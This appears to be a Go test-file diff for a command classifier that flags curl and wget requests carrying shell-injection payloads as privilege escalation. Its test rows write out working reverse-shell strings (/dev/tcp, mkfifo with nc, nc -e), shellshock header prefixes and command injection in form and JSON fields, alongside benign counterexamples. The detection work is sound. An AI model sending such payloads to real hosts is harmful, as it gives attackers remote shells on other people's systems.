@@ -509,3 +509,33 @@ func TestAWSRevocations(t *testing.T) {
 		t.Errorf("revoke-security-group-ingress = %v: a firewall rule, not a grant", got)
 	}
 }
+
+// TestInjectedShellSent: a request whose data or headers carry a shell
+// for the receiving host to run — a reverse shell (/dev/tcp/, "bash -i",
+// "sh -i", "nc … -e", mkfifo) or a shellshock function prefix "() {" —
+// makes another host run commands (dev7 r0614: "posts a command-injection
+// payload that makes another host run a reverse shell", labelled
+// privilege-escalation). curl's -d|--data|--data-raw|--data-binary|
+// --data-urlencode|--json|-F|--form|-H|--header|-A|--user-agent|-b|
+// --cookie and wget's --post-data|--header|-U|--user-agent carry them
+// (curl(1), wget(1)). Ordinary data and headers are everyday.
+func TestInjectedShellSent(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`curl --header "Content-Type: application/json" --request POST http://example.com:8080/upload --data '{"filename" : "& echo \"bash -i >& /dev/tcp/example.com/8080 0>&1\"|base64 -d|bash"}'`, PrivilegeEscalation},
+		{`curl -A "() { :; }; /bin/bash -c 'id'" http://example.com/cgi-bin/status`, PrivilegeEscalation},
+		{`curl -H "User-Agent: () { :;}; echo; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" http://example.com/cgi-bin/test.cgi`, PrivilegeEscalation},
+		{`curl --data-urlencode "cmd=bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" http://example.com/shell.php`, PrivilegeEscalation},
+		{`curl -F 'ip=127.0.0.1; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f' http://example.com/ping`, PrivilegeEscalation},
+		{`wget --post-data="host=;nc 10.0.0.1 4444 -e /bin/sh" http://example.com/ping -O-`, PrivilegeEscalation},
+		{`wget -U "() { :; }; /bin/sh -c id" http://example.com/cgi-bin/x`, PrivilegeEscalation},
+		// Everyday data and headers.
+		{`curl -d '{"name":"bash","version":"5.2"}' -H 'Content-Type: application/json' https://api.example.com/tools`, ""},
+		{`curl -H "X-Shell: zsh" https://api.example.com/`, ""},
+		{`curl -A "Mozilla/5.0 (X11; Linux x86_64)" https://example.com/`, ""},
+		{`wget --post-data="q=shell scripting" https://example.com/search -O-`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
